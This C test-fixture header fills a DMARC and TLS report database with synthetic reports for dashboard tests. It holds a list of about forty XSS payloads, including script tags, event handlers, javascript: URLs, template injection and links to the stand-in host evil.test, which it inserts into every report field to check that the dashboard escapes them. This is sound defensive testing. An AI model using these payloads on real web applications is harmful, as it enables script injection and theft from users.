/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A database of reports such as an organisation has, for tests of what is shown of it: two months
 * of two domains, a mailer of ours, a provider, a forwarder, a forger; TLS reports; messages that
 * failed. Texts of strangers are as hostile as the database takes them.
 */
#pragma once

#include "../unit.h"

#include "reportdb/names.h"

enum { FILLING_DAYS = 60, FILLING_DAY_S = 86400 };

#define FILLING_MARKUP "<script>window.acted=1</script><img src=x onerror=window.acted=1>'\"&amp;"

/* Of each day: who sends how much in the name of ours.example. */
static const struct {
	const char *what;
	uint8_t source[16];
	uint64_t count;
	bool dkim, spf, foreign, forwarded;
	uint8_t disposition;
} filling_senders[] = {
	{"ours",
	 {[10] = 255, 255, 192, 0, 2, 10},
	 900,
	 true,
	 true,
	 false,
	 false,
	 GP_INGEST_DISPOSITION_NONE},
	{"provider",
	 {[10] = 255, 255, 198, 51, 100, 20},
	 300,
	 true,
	 false,
	 true,
	 false,
	 GP_INGEST_DISPOSITION_NONE},
	{"forwarder",
	 {[10] = 255, 255, 203, 0, 113, 30},
	 40,
	 true,
	 false,
	 false,
	 true,
	 GP_INGEST_DISPOSITION_NONE},
	{"forger",
	 {0x20, 0x01, 0x0d, 0xb8, [15] = 0xbd},
	 25,
	 false,
	 false,
	 true,
	 false,
	 GP_INGEST_DISPOSITION_QUARANTINE},
};

static void
filling_row(struct gp_ingest_row *row, size_t sender, uint64_t count)
{
	memset(row, 0, sizeof(*row));
	row->number = sender + 1;
	memcpy(row->source, filling_senders[sender].source, 16);
	row->count = count;
	row->disposition = filling_senders[sender].disposition;
	row->dkim = filling_senders[sender].dkim ? GP_INGEST_RESULT_PASS : GP_INGEST_RESULT_FAIL;
	row->spf = filling_senders[sender].spf ? GP_INGEST_RESULT_PASS : GP_INGEST_RESULT_FAIL;
	row->header_from = GP_SLICE("ours.example");
	row->envelope_from = filling_senders[sender].foreign ? GP_SLICE("eu-west-1.amazonses.com")
							     : GP_SLICE("ours.example");
	row->reasons_len = filling_senders[sender].forwarded;
	row->reasons[0].type = GP_INGEST_REASON_FORWARDED;
	row->reasons[0].comment = GP_SLICE(FILLING_MARKUP);
	row->dkim_results_len = filling_senders[sender].dkim;
	row->dkim_results[0].domain = GP_SLICE("ours.example");
	row->dkim_results[0].selector = GP_SLICE("s2026");
	row->dkim_results[0].result = GP_INGEST_RESULT_PASS;
	row->spf_results_len = 1;
	row->spf_results[0].domain = row->envelope_from;
	row->spf_results[0].scope = GP_SLICE("mfrom");
	row->spf_results[0].result = filling_senders[sender].spf || filling_senders[sender].foreign
					     ? GP_INGEST_RESULT_PASS
					     : GP_INGEST_RESULT_SOFTFAIL;
}

static void
filling_begin(struct gp_reportdb *db, const char *file, int64_t received_s,
	      struct gp_ingest_listener *ret)
{
	const struct gp_reportdb_origin origin = {
		.file = gp_slice_str(file), .authenticated = true, .received_s = received_s};
	assert_int_equal(gp_reportdb_begin(db, &origin), 0);
	*ret = gp_reportdb_listener(db);
}

static void
filling_end(struct gp_reportdb *db, const char *refused)
{
	struct gp_reportdb_result result;
	assert_int_equal(gp_reportdb_end(db, refused, &result), 0);
	assert_int_equal(result.outcome, refused ? GP_REPORTDB_REFUSED : GP_REPORTDB_KEPT);
}

static struct gp_ingest_head
filling_head(uint8_t kind, const char *org, const char *id, const char *domain, int64_t day)
{
	return (struct gp_ingest_head){.kind = kind,
				       .org = gp_slice_str(org),
				       .id = gp_slice_str(id),
				       .domain = gp_slice_str(domain),
				       .begin = day * FILLING_DAY_S,
				       .end = day * FILLING_DAY_S + FILLING_DAY_S - 1,
				       .p = GP_INGEST_POLICY_NONE,
				       .pct = -1};
}

/* Weekends are quieter, and forgers come and go. */
static uint64_t
filling_count(size_t sender, int64_t day)
{
	uint64_t count = filling_senders[sender].count;
	if (sender == 3)
		return count * (uint64_t)(1 + day % 9);
	return (day + 3) % 7 < 2 ? count / 3 : count + (uint64_t)(day % 5) * count / 20;
}

static void
filling_aggregate(struct gp_reportdb *db, const char *org, const char *domain, int64_t day)
{
	char id[64];
	struct gp_ingest_listener l;
	snprintf(id, sizeof(id), "%s-%lld", domain, (long long)day);
	struct gp_ingest_head head = filling_head(GP_INGEST_AGGREGATE, org, id, domain, day);
	filling_begin(db, "mail/aggregate.xml.gz", (day + 1) * FILLING_DAY_S + 7200, &l);
	assert_int_equal(l.head(l.context, &head), 0);
	for (size_t i = 0; i < GP_ARRAY_LEN(filling_senders); i++) {
		struct gp_ingest_row row;
		filling_row(&row, i, filling_count(i, day));
		if (strcmp(domain, "ours.example") != 0)
			row.header_from = gp_slice_str(domain);
		assert_int_equal(l.row(l.context, &row), 0);
	}
	if (day % 20 == 0)
		assert_int_equal(l.flaw(l.context, 9, true, "its source address cannot be read"),
				 0);
	filling_end(db, NULL);
}

static void
filling_tls(struct gp_reportdb *db, int64_t day)
{
	char id[64];
	struct gp_ingest_listener l;
	struct gp_ingest_tls_policy policy;
	struct gp_ingest_tls_failure failure;
	snprintf(id, sizeof(id), "tls-%lld", (long long)day);
	struct gp_ingest_head head =
		filling_head(GP_INGEST_TLS, "reporter.example", id, "ours.example", day);
	memset(&policy, 0, sizeof(policy));
	memset(&failure, 0, sizeof(failure));
	policy.number = 1;
	policy.type = GP_SLICE("sts");
	policy.domain = GP_SLICE("ours.example");
	policy.successful = 500 + (uint64_t)day % 60;
	policy.failed = day % 6 == 0 ? 12 : 0;
	failure.result = GP_SLICE("certificate-expired");
	failure.receiving_mx = GP_SLICE("mx2.ours.example");
	failure.info = GP_SLICE(FILLING_MARKUP);
	failure.sessions = policy.failed;
	filling_begin(db, "mail/tls.json.gz", (day + 1) * FILLING_DAY_S + 3600, &l);
	assert_int_equal(l.head(l.context, &head), 0);
	assert_int_equal(l.tls_policy(l.context, &policy), 0);
	if (policy.failed > 0)
		assert_int_equal(l.tls_failure(l.context, &failure), 0);
	filling_end(db, NULL);
}

static void
filling_failure(struct gp_reportdb *db, int64_t day)
{
	struct gp_ingest_listener l;
	struct gp_ingest_failure m;
	struct gp_ingest_head head = filling_head(GP_INGEST_FAILURE, "mail.example", FILLING_MARKUP,
						  "ours.example", day);
	memset(&m, 0, sizeof(m));
	m.type = GP_SLICE("dmarc");
	m.delivery = GP_SLICE("reject");
	memcpy(m.source, filling_senders[3].source, 16);
	m.domain = m.header_from = GP_SLICE("ours.example");
	m.envelope_from = GP_SLICE("eu-west-1.amazonses.com");
	m.envelope_to = GP_SLICE("someone@mail.example");
	m.subject = GP_SLICE("Your invoice " FILLING_MARKUP);
	m.results = GP_SLICE("mail.example; dmarc=fail header.from=ours.example");
	m.arrived = day * FILLING_DAY_S + 3723;
	m.incidents = 3;
	m.header = GP_SLICE("Subject: Your invoice " FILLING_MARKUP);
	filling_begin(db, "mail/failure.eml", day * FILLING_DAY_S + 4000, &l);
	assert_int_equal(l.head(l.context, &head), 0);
	assert_int_equal(l.failure(l.context, &m), 0);
	filling_end(db, NULL);
}

/* What made other dashboards run a reporter's code, and what might: as HTML, attribute, URL, CSS,
 * SVG, JSON and script. */
static const char *const filling_attacks[] = {
	"<script>window.acted=1</script>",
	"<ScRiPt>window.acted=1</sCrIpT>",
	"<script src=//evil.test/x></script>",
	"</script><script>window.acted=1</script>",
	"<script>window.acted=1<!--",
	"<scr<script>ipt>window.acted=1</scr</script>ipt>",
	"<img src=x onerror=window.acted=1>",
	"<img/src/onerror=window.acted=1>",
	"<img src=x:x onerror=\"window.acted=1\">",
	"\"><img src=x onerror=window.acted=1>",
	"'><img src=x onerror=window.acted=1>",
	"<svg onload=window.acted=1>",
	"<svg/onload=window.acted=1//",
	"<svg><script>window.acted=1</script></svg>",
	"<svg><animate onbegin=window.acted=1 attributeName=x dur=1s>",
	"<svg><a xlink:href=javascript:window.acted=1><text y=20>x</text></a></svg>",
	"<math><mtext></form><form><mglyph><style></math><img src onerror=window.acted=1>",
	"<iframe src=javascript:window.acted=1>",
	"<iframe srcdoc=\"<script>parent.acted=1</script>\">",
	"<object data=javascript:window.acted=1>",
	"<embed src=javascript:window.acted=1>",
	"<body onload=window.acted=1>",
	"<input autofocus onfocus=window.acted=1>",
	"<select autofocus onfocus=window.acted=1>",
	"<details open ontoggle=window.acted=1>",
	"<video><source onerror=window.acted=1>",
	"<audio src=x onerror=window.acted=1>",
	"<marquee onstart=window.acted=1>",
	"<a href=javascript:window.acted=1>x</a>",
	"javascript:window.acted=1",
	"JaVaScRiPt:window.acted=1//",
	"data:text/html,<script>window.acted=1</script>",
	"\" onmouseover=window.acted=1 x=\"",
	"' autofocus onfocus=window.acted=1 x='",
	"<style>*{background:url(javascript:window.acted=1)}</style>",
	"<link rel=stylesheet href=//evil.test/x>",
	"<meta http-equiv=refresh content=\"0;url=javascript:window.acted=1\">",
	"<base href=//evil.test/>",
	"{{constructor.constructor('window.acted=1')()}}",
	"${window.acted=1}\\u003cscript\\u003ewindow.acted=1\\u003c/script\\u003e",
};

/* Each of them in every text that a report has. */
static void
filling_attack(struct gp_reportdb *db, const char *text, int64_t day)
{
	struct gp_ingest_listener l;
	struct gp_ingest_row row;
	struct gp_ingest_failure m;
	struct gp_ingest_head head =
		filling_head(GP_INGEST_AGGREGATE, text, text, "attacked.example", day);
	struct gp_slice s = gp_slice_str(text);
	filling_row(&row, 3, 1);
	row.header_from = row.envelope_from = row.envelope_to = s;
	row.dkim_results_len = 1;
	row.dkim_results[0] = (struct gp_ingest_auth){
		.domain = s, .selector = s, .human = s, .result = GP_INGEST_RESULT_FAIL};
	row.spf_results[0] = (struct gp_ingest_auth){
		.domain = s, .scope = s, .human = s, .result = GP_INGEST_RESULT_FAIL};
	filling_begin(db, text, day * FILLING_DAY_S, &l);
	assert_int_equal(l.head(l.context, &head), 0);
	assert_int_equal(l.row(l.context, &row), 0);
	filling_end(db, NULL);

	memset(&m, 0, sizeof(m));
	head.kind = GP_INGEST_FAILURE;
	m.type = m.delivery = m.domain = m.header_from = m.envelope_from = m.envelope_to = s;
	m.subject = m.message_id = m.results = m.dkim_domain = m.dkim_selector = s;
	m.spf_record = m.header = s;
	m.incidents = 1;
	filling_begin(db, text, day * FILLING_DAY_S, &l);
	assert_int_equal(l.head(l.context, &head), 0);
	assert_int_equal(l.failure(l.context, &m), 0);
	filling_end(db, NULL);
}

static void
filling_attack_tls(struct gp_reportdb *db, const char *text, int64_t day)
{
	struct gp_ingest_listener l;
	struct gp_ingest_tls_policy policy;
	struct gp_ingest_tls_failure f;
	struct gp_slice s = gp_slice_str(text);
	struct gp_ingest_head head =
		filling_head(GP_INGEST_TLS, text, text, "attacked.example", day);
	memset(&policy, 0, sizeof(policy));
	memset(&f, 0, sizeof(f));
	policy.number = 1;
	policy.type = s;
	policy.domain = GP_SLICE("attacked.example");
	policy.failed = f.sessions = 1;
	f.result = f.sending_ip = f.receiving_mx = f.receiving_ip = f.receiving_helo = s;
	f.reason_code = f.info = s;
	filling_begin(db, text, day * FILLING_DAY_S, &l);
	assert_int_equal(l.head(l.context, &head), 0);
	assert_int_equal(l.tls_policy(l.context, &policy), 0);
	assert_int_equal(l.tls_failure(l.context, &f), 0);
	filling_end(db, NULL);
}

/* For attacked.example, on one day: 40 texts, each in all fields. */
static void
filling_fill_attacks(struct gp_reportdb *db, int64_t day)
{
	for (size_t i = 0; i < GP_ARRAY_LEN(filling_attacks); i++) {
		filling_attack(db, filling_attacks[i], day);
		filling_attack_tls(db, filling_attacks[i], day);
	}
	assert_int_equal(gp_reportdb_sync(db), 0);
}

static void
filling_name(struct gp_reportdb *db, size_t sender, const char *name, int64_t day)
{
	assert_int_equal(gp_reportdb_keep_name(db, filling_senders[sender].source,
					       GP_REPORTDB_NAMED, gp_slice_str(name), day * 86400),
			 0);
}

/* The last day with reports is `day`. */
static void
filling_fill(struct gp_reportdb *db, int64_t day)
{
	struct gp_ingest_listener l;
	for (int64_t d = day - FILLING_DAYS + 1; d <= day; d++) {
		filling_aggregate(db, d % 2 ? "reporter.example" : FILLING_MARKUP, "ours.example",
				  d);
		if (d % 3 == 0)
			filling_aggregate(db, "mail.example", "shop.example", d);
		filling_tls(db, d);
	}
	filling_failure(db, day - 1);
	filling_begin(db, "mail/" FILLING_MARKUP ".zip", day * FILLING_DAY_S, &l);
	filling_end(db, "its archive has a thousand members");
	filling_name(db, 0, "mx.ours.example", day);
	filling_name(db, 1, "a8-31.smtp-out.amazonses.com", day);
	filling_name(db, 3, FILLING_MARKUP, day);
	assert_int_equal(gp_reportdb_sync(db), 0);
}
